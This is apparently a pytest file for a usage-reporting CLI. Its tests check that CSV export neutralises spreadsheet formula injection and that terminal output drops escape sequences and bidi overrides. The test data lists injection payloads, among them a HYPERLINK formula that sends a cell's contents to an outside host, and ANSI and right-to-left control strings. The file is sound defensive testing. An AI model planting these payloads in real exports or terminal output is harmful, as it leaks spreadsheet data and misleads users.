"""Usage for people and for spreadsheets: whatever a caller has named its tool."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from fumehood.budgets.model import BudgetStanding, Period, Unit, UsageRow, UsageTable
from fumehood.cli.usage import as_cell, show_usage, write_csv

pytestmark = pytest.mark.row("E4")


def row(tool: str | None = "calculator", **fields: Any) -> UsageRow:
    return UsageRow(**{
        "group": {"tool": tool}, "calls": 2, "errors": 1, "input_tokens": 3, "output_tokens": 4,
        "tokens_used": 5, "cost": {"USD": "0.250000"}, **fields,
    })  # fmt: skip


def table(*rows: UsageRow, **fields: Any) -> UsageTable:
    total = row(group={}, calls=99)
    return UsageTable(
        **{"by": ("tool",), "items": rows, "total": total, "has_more": False, **fields}
    )


def lines(*rows: UsageRow) -> list[list[str]]:
    file = io.StringIO(newline="")
    write_csv(table(*rows), file)
    return list(csv.reader(io.StringIO(file.getvalue(), newline="")))


def test_csv_has_a_line_a_group_and_no_total() -> None:
    assert lines(row(), row(None)) == [
        ["tool", "calls", "errors", "input_tokens", "output_tokens", "tokens_used", "cost",
         "currency"],
        ["calculator", "2", "1", "3", "4", "5", "0.250000", "USD"],
        ["", "2", "1", "3", "4", "5", "0.250000", "USD"],
    ]  # fmt: skip


def test_second_currency_has_a_line_of_its_own_and_counts_no_call_twice() -> None:
    _, first, second = lines(row(cost={"EUR": "1.000000", "USD": "2.000000"}))
    assert first[1:] == ["2", "1", "3", "4", "5", "1.000000", "EUR"]
    assert second == ["calculator", "0", "0", "0", "0", "0", "2.000000", "USD"]


FORMULAS = [
    '=HYPERLINK("http://example.org/?"&A1)', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "=1+1\";=1+1", "＝1+1", "|calc", "%0A=1", "\u00a0=1", "\x00=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    """Any caller can ask for a tool of this name; whoever is refused is in the log, too."""
    cell = lines(row(text))[1][0]
    first = cell.strip()[0]
    assert first in ("'", "\\")
    assert not any(ord(character) < 32 for character in cell)


@pytest.mark.parametrize("text", ["calculator", "run_python", "a-b", "x=1", "1", "a@1.0.0", "a+b"])
def test_harmless_name_stays_as_it_is(text: str) -> None:
    assert as_cell(text) == text


def test_separators_and_quotes_stay_within_their_cell() -> None:
    assert lines(row('a","b\nc;d'))[1][0] == 'a","b\\u{000a}c;d'


def test_table_shows_total_budgets_and_nothing_that_moves_the_cursor(
    capsys: pytest.CaptureFixture[str],
) -> None:
    budget = BudgetStanding(
        budget="daily", subject={"agent": "a"}, period=Period.TOTAL, unit=Unit.MONEY,
        limit="5.000000", spent="1.000000", held="0.000000", left="4.000000", resets_at=None,
    )  # fmt: skip
    show_usage(table(row("a\x1b[2J\nb\u202e[red]"), budgets=(budget,)))
    shown = capsys.readouterr().out
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "[red]" in shown.replace("\n", "").replace(" ", "")
    assert "99" in shown
    assert "4.000000" in shown
    assert "never" in shown
